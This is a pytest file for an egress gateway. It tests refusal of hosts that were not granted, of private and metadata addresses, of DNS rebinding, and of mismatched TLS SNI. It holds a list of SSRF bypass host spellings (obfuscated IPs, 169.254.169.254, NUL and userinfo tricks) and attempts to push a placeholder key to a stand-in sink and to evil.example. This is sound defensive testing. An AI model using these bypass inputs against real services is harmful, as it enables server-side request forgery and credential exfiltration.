"""Rows 23, 24, 25, 27 and 28: hosts in every spelling, private addresses, rebinding, lying tunnels."""

from __future__ import annotations

import asyncio
import contextlib
import json
import ssl
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from gateway_support import CHAT, KEYS, PLACEHOLDER, Stand, connects, make_grant, on_stand, parse

from bridgehold.audit.events import EgressIntent, EgressOutcome, EgressRefused
from bridgehold.bridges.kit.sink import ExfiltrationSink
from bridgehold.errors import PolicyError
from bridgehold.host.cell.gateway.gateway import Gateway
from bridgehold.host.cell.gateway.values import GatewayLimits
from bridgehold.keeper.spending import Spending
from bridgehold.policies.tenants import Tenant
from waiting import eventually

FAST = GatewayLimits(refusals_per_second=500)


def hello(name: str | None) -> bytes:
    """A real ClientHello, as OpenSSL makes it."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def connect(authority: str) -> bytes:
    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode("latin-1")


@contextlib.asynccontextmanager
async def echo() -> AsyncIterator[tuple[int, bytearray]]:
    """A server that keeps what comes and sends it back."""
    seen = bytearray()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.read(65536):
            seen.extend(data)
            writer.write(data)
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    try:
        yield int(server.sockets[0].getsockname()[1]), seen
    finally:
        server.close()


async def to_loopback(host: str, port: int) -> list[str]:
    return ["127.0.0.1"]


def test_no_spelling_of_a_host_that_is_not_granted_gets_out(tmp_path: Path) -> None:
    spellings = [
        "evilopenai.com",
        "api.openai.com.evil.example",
        "evil.example.com.",
        "EVIL.EXAMPLE.COM",
        "93.184.216.34",
        "1572395042",
        "0x5db8d822",
        "0135.0270.0330.042",
        "[::ffff:93.184.216.34]",
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "[::1]",
        "169.254.169.254",
        "[::ffff:169.254.169.254]",
        "metadata.google.internal",
        "good.example.com.evil.example",
        "good.example.com%00.evil.example",
        "good.example.com%2eevil.example",
        "good.example.com..",
        "g\u00f6\u00f6d.example.com",
    ]

    async def act(stand: Stand) -> None:
        for host in spellings:
            reply = parse(await stand.raw(connect(f"{host}:443"), timeout=5))
            assert reply.status in (400, 403), (host, reply)
            plain = f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode("latin-1")
            reply = parse(await stand.raw(plain, timeout=5))
            assert reply.status in (400, 403), (host, reply)
        assert len(stand.audit.of(EgressRefused)) == 2 * len(spellings)
        assert not stand.audit.of(EgressIntent)

    on_stand(tmp_path, act, make_grant(connects=connects(("good.example.com", 443, False))), limits=FAST)


def test_nul_and_userinfo_never_get_past_the_parser(tmp_path: Path) -> None:
    async def act(stand: Stand) -> None:
        for target in ("good.example.com\0.evil.example:443", "good.example.com@evil.example:443"):
            assert parse(await stand.raw(connect(target), timeout=5)).status == 400
        userinfo = b"GET http://good.example.com@evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
        assert parse(await stand.raw(userinfo, timeout=5)).status == 400
        assert not stand.audit.of(EgressIntent)

    on_stand(tmp_path, act, make_grant(connects=connects(("good.example.com", 443, False))))


def test_a_granted_name_that_leads_to_a_private_address_is_refused(tmp_path: Path) -> None:
    answers: dict[str, list[str]] = {
        "loop.example.com": ["127.0.0.1"],
        "meta.example.com": ["169.254.169.254"],
        "mixed.example.com": ["93.184.216.34", "10.0.0.1"],
        "mapped.example.com": ["::ffff:192.168.1.1"],
        "six.example.com": ["fd00::1"],
    }

    async def lookup(host: str, port: int) -> list[str]:
        return answers[host]

    async def act(stand: Stand) -> None:
        for host in answers:
            reply = parse(await stand.raw(connect(f"{host}:443"), timeout=5))
            assert reply.status == 403, host
            assert reply.json["error"]["code"] == "names.public"
        assert not stand.audit.of(EgressIntent)

    grant = make_grant(connects=connects(("*.example.com", 443, False)))
    on_stand(tmp_path, act, grant, limits=FAST, outward=lookup)


def test_a_name_that_rebinds_is_dialled_at_the_address_that_was_vetted(tmp_path: Path) -> None:
    """Each lookup gives another answer: only what was vetted may be dialled, and only once asked for."""
    asked: list[str] = []

    async def rebind(host: str, port: int) -> list[str]:
        asked.append(host)
        return ["192.0.2.1"] if len(asked) == 1 else ["127.0.0.1"]

    async def act(stand: Stand) -> None:
        assert parse(await stand.raw(connect("re.example.com:443"), timeout=15)).status == 403
        assert parse(await stand.raw(connect("re.example.com:443"), timeout=15)).status == 403
        assert asked == ["re.example.com"] * 2, "a name was asked for more than once for one request"

    on_stand(tmp_path, act, make_grant(connects=connects(("re.example.com", 443, False))), outward=rebind)


def test_a_provider_that_rebinds_to_a_private_address_gets_no_key(tmp_path: Path) -> None:
    seen: list[str] = []

    async def lookup(host: str, port: int) -> list[str]:
        seen.append(host)
        return ["127.0.0.1"]

    async def act(stand: Stand) -> None:
        reply = await stand.ask()
        assert reply.status == 403
        assert reply.json["error"]["code"] == "keeper.address"
        assert not stand.provider.log
        (refused,) = stand.audit.of(EgressRefused)
        assert refused.severity == "high"
        await eventually(lambda: stand.audit.of(EgressOutcome))
        assert stand.audit.of(EgressOutcome)[0].code == "keeper.address"
        assert seen == ["api.provider.example"]

    on_stand(tmp_path, act, base_url="https://api.provider.example/v1", private=False, lookup=lookup)


def test_a_provider_at_a_private_literal_gets_no_key(tmp_path: Path) -> None:
    async def act(stand: Stand) -> None:
        assert (await stand.ask()).json["error"]["code"] == "keeper.address"

    on_stand(tmp_path, act, base_url="https://169.254.169.254/v1", private=False)


def test_a_tunnel_must_name_its_host_in_the_client_hello(tmp_path: Path) -> None:
    async def act(stand: Stand) -> None:
        async with echo() as (port, seen):
            await stand.gateways[0].close()
            granted = connects(("good.example.com", port, True))
            await stand.open(make_grant(connects=granted), lookup=to_loopback, limits=FAST)
            cases: dict[str, bytes] = {
                "another name": hello("evil.example.com"),
                "a name below it": hello("x.good.example.com"),
                "no name": hello(None),
                "not TLS": b"GET / HTTP/1.1\r\nHost: evil\r\n\r\n",
                "SSH": b"SSH-2.0-x\r\n",
                "a record that lies": b"\x16\x03\x01\xff\xff" + b"\x01" * 50,
            }
            for name, data in cases.items():
                before = len(stand.audit.of(EgressRefused))
                answer = await stand.raw(connect(f"good.example.com:{port}") + data, timeout=5)
                assert answer == b"HTTP/1.1 200 Connection established\r\n\r\n", name
                (refused,) = stand.audit.of(EgressRefused)[before:]
                assert (refused.rule, refused.severity) == ("connect.sni", "high"), name
            assert not seen, "bytes went out before the name was known"

    on_stand(tmp_path, act)


def test_an_honest_tunnel_works_and_is_accounted(tmp_path: Path) -> None:
    async def act(stand: Stand) -> None:
        async with echo() as (port, seen):
            granted = connects(("good.example.com", port, True))
            await stand.open(make_grant(connects=granted), lookup=to_loopback)
            reader, writer = await asyncio.open_connection("127.0.0.1", stand.port)
            writer.write(connect(f"GOOD.example.com.:{port}"))
            assert b" 200 " in await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 30)
            first = hello("good.example.com")
            writer.write(first[:40])
            await asyncio.sleep(0.05)
            writer.write(first[40:])
            assert await asyncio.wait_for(reader.readexactly(len(first)), 30) == first
            writer.write(b"x" * 100_000)
            await asyncio.wait_for(reader.readexactly(100_000), 30)
            writer.close()
            await eventually(lambda: stand.audit.of(EgressOutcome))
            assert len(seen) == len(first) + 100_000
            (outcome,) = stand.audit.of(EgressOutcome)
            assert outcome.request_bytes == outcome.response_bytes == len(seen)
            assert outcome.host == f"good.example.com:{port}"

    on_stand(tmp_path, act)


def test_a_tunnel_never_leads_to_a_provider(tmp_path: Path) -> None:
    """Neither by its name nor by its address under another name."""

    async def act(stand: Stand) -> None:
        port = stand.provider.port
        granted = connects(("alias.example.com", port, True), ("127.0.0.1", port, True))
        await stand.open(make_grant(connects=granted), lookup=to_loopback)
        for host in ("alias.example.com", "127.0.0.1"):
            reply = parse(await stand.raw(connect(f"{host}:{port}"), timeout=5))
            assert reply.json["error"]["code"] == "provider-binding", host
            plain = f"POST http://{host}:{port}/v1/chat/completions HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"
            assert parse(await stand.raw(plain.encode(), timeout=5)).status == 403
        assert not stand.provider.log

    on_stand(tmp_path, act)


def test_plain_proxying_goes_to_granted_hosts_only_and_carries_no_placeholder(tmp_path: Path) -> None:
    async def act(stand: Stand) -> None:
        async with ExfiltrationSink.open() as sink:
            granted = connects(("localhost", sink.port, True))
            await stand.open(make_grant(connects=granted))
            place = f"localhost:{sink.port}"
            captured = json.dumps({"key": sink.decoy}).encode()

            def post(path: str = "/drop", **headers: str) -> bytes:
                lines = [f"POST http://{place}{path} HTTP/1.1", f"Host: {place}"]
                lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
                lines += [f"Content-Length: {len(captured)}", "", ""]
                return "\r\n".join(lines).encode() + captured

            assert parse(await stand.raw(post(), timeout=5)).json == {"status": "thanks"}
            assert sink.stolen()
            for attempt in (
                post(Authorization=f"Bearer {PLACEHOLDER}"),
                post(X_Note=PLACEHOLDER),
                post(f"/drop?k={PLACEHOLDER}"),
            ):
                reply = parse(await stand.raw(attempt, timeout=5))
                assert reply.json["error"]["code"] == "placeholder.host"
            assert all(e.severity == "high" for e in stand.audit.of(EgressRefused))
            assert len(sink.captured) == 1
            assert not sink.stolen(KEYS["acme"])

    on_stand(tmp_path, act)


def test_an_answer_in_chunks_of_one_byte_is_paid_by_who_asked_and_others_go_on(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The other side of plain proxying may be the guest's own."""
    paid = 0
    real = Gateway._pace

    async def pace(self: Gateway) -> None:
        nonlocal paid
        paid += 1
        await real(self)

    monkeypatch.setattr(Gateway, "_pace", pace)
    early, chunks = b"HTTP/1.1 100 Continue\r\n\r\n" * 500, b"1\r\nx\r\n" * 2_000

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
        writer.write(early + head + chunks + b"0\r\n\r\n")
        await writer.drain()

    async def act(stand: Stand) -> None:
        server = await asyncio.start_server(answer, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        await stand.open(make_grant(connects=connects(("localhost", port, True))))
        asked = f"GET http://localhost:{port}/ HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode()
        reply = parse(await stand.raw(asked))
        assert (reply.status, reply.body) == (200, b"x" * 2_000)
        assert paid > 2_500 // 16
        server.close()

    on_stand(tmp_path, act)


def test_what_is_refused_is_refused_before_its_body(tmp_path: Path) -> None:
    """Neither a byte of it is waited for, nor held, however many announce the most there may be."""

    async def act(stand: Stand) -> None:
        head = b"POST http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 8000000\r\n"
        for more in (b"\r\n", b"Expect: 100-continue\r\n\r\n", b"\r\n" + b"x" * 100_000):
            for _ in range(10):
                reader, writer = await asyncio.open_connection("127.0.0.1", stand.port)
                writer.write(head + more)
                answer = await asyncio.wait_for(reader.readuntil(b"\r\n"), 30)
                assert answer == b"HTTP/1.1 403 \r\n"
                assert stand.buffers.held == 0
                writer.close()
        whole = head + b"\r\n" + b"x" * 8_000_000
        assert parse(await stand.raw(whole, timeout=20)).status == 403  # and whoever sends it all is told
        assert not stand.audit.of(EgressIntent)

    on_stand(tmp_path, act, make_grant(connects=connects(("good.example.com", 80, False))), limits=FAST)


def test_what_is_granted_waits_for_room_before_its_body(tmp_path: Path) -> None:
    async def act(stand: Stand) -> None:
        async with ExfiltrationSink.open() as sink, contextlib.AsyncExitStack() as stack:
            place = f"localhost:{sink.port}"
            grant = make_grant(connects=connects(("localhost", sink.port, True)))
            await stand.open(grant)
            size = grant.limits.request_bytes
            for number in range(16):  # all that one tenant may have, but for a head
                some = size - 64 * 1024 * (number == 15)
                await stack.enter_async_context(stand.buffers.hold((grant.tenant, str(number)), some))
            head = f"POST http://{place}/drop HTTP/1.1\r\nHost: {place}\r\n"
            full = (head + f"Content-Length: {size}\r\n\r\n").encode() + b"x" * 1_000
            assert parse(await stand.raw(full, timeout=20)).status == 503
            assert not sink.captured
            await stack.aclose()
            assert parse(await stand.raw(head.encode() + b"Content-Length: 2\r\n\r\n{}")).status == 200
        assert stand.buffers.held == 0
        assert [outcome.code for outcome in stand.audit.of(EgressOutcome)] == ["busy", ""]

    on_stand(tmp_path, act)


def test_a_client_that_proxies_its_own_gateway_gets_there(tmp_path: Path) -> None:
    """HTTP_PROXY captures a loopback base URL: the absolute form with our own name is our own path."""

    async def act(stand: Stand) -> None:
        place = f"127.0.0.1:{stand.port}"
        body = json.dumps(CHAT).encode()
        lines = [f"POST http://{place}/openai/chat/completions HTTP/1.1", f"Host: {place}"]
        lines += [
            f"Authorization: Bearer {PLACEHOLDER}",
            "Connection: close",
            f"Content-Length: {len(body)}",
            "",
            "",
        ]
        assert parse(await stand.raw("\r\n".join(lines).encode() + body)).status == 200

    on_stand(tmp_path, act)


def test_a_slow_client_hello_does_not_hold_the_tunnel(tmp_path: Path, monkeypatch: Any) -> None:
    monkeypatch.setattr("bridgehold.host.cell.gateway.outbound._HELLO_SECONDS", 0.3)

    async def act(stand: Stand) -> None:
        async with echo() as (port, seen):
            granted = connects(("good.example.com", port, True))
            await stand.open(make_grant(connects=granted), lookup=to_loopback)
            part = hello("good.example.com")[:30]
            answer = await stand.raw(connect(f"good.example.com:{port}") + part, timeout=5)
            assert answer == b"HTTP/1.1 200 Connection established\r\n\r\n"
            assert not seen

    on_stand(tmp_path, act)


def test_nothing_goes_out_for_a_tenant_that_is_suspended_or_whose_file_is_broken(tmp_path: Path) -> None:
    """By every way: to a provider, by a tunnel, by plain proxying; what runs inside may ask at any time."""

    def suspended(name: str) -> Tenant:
        return Tenant(name=name, state="suspended", reason="unpaid")

    def broken(_name: str) -> Tenant:
        raise PolicyError("no TOML")

    async def act(stand: Stand) -> None:
        plain = b"GET http://good.example.com/ HTTP/1.1\r\nHost: good.example.com\r\n\r\n"
        for tenant_of in (suspended, broken):
            stand.budgets.spending = Spending(tenant_of)
            replies = [
                await stand.ask(),
                parse(await stand.raw(connect("good.example.com:443"), timeout=5)),
                parse(await stand.raw(plain, timeout=5)),
            ]
            assert all(400 <= reply.status < 600 for reply in replies)
            if tenant_of is suspended:
                assert {reply.status for reply in replies} == {403}
                assert "unpaid" in replies[0].message
        assert {one.rule for one in stand.audit.of(EgressRefused)} == {"tenant.state", "gateway.policy"}
        assert not stand.audit.of(EgressIntent)
        stand.budgets.spending = Spending()
        assert (await stand.ask()).status == 200

    grant = make_grant(connects=connects(("good.example.com", 443, False), ("good.example.com", 80, False)))
    on_stand(tmp_path, act, grant, limits=FAST)
